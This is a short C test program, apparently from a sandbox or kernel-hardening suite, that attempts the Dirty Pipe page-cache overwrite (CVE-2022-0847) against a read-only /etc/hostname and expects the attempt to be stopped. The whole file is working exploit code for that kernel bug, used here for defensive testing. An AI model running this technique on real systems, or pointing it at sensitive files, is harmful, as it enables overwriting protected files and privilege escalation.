// Writes into the page cache of a file that it may only read, by a pipe that took the page by splice (Dirty Pipe, CVE-2022-0847).
// expect: stopped
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    // A file of the sandbox's own root, which programs may only read: on a kernel with the hole nothing of the host is harmed.
    int fd = open("/etc/hostname", O_RDONLY), ends[2];
    char before[9] = "", after[9] = "", page[4096];
    if (fd < 0 || pread(fd, before, 8, 0) != 8 || pipe(ends)) return 1;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    // Each buffer of the pipe is filled and emptied once, and keeps the flag that more may be added to it.
    for (int left = size; left > 0;) left -= write(ends[1], page, left < 4096 ? left : 4096);
    for (int left = size; left > 0;) left -= read(ends[0], page, left < 4096 ? left : 4096);
    off64_t at = 0;
    ssize_t taken = splice(fd, &at, ends[1], 0, 1, 0);
    ssize_t written = write(ends[1], "ESCAPED", 7);
    pread(fd, after, 8, 0);
    if (memcmp(before, after, 8)) printf("ESCAPED it is now %s\n", after);
    if (taken != 1 || written != 7) printf("not tried: splice %zd, write %zd, %s\n", taken, written, strerror(errno));
    else puts("stopped");
}
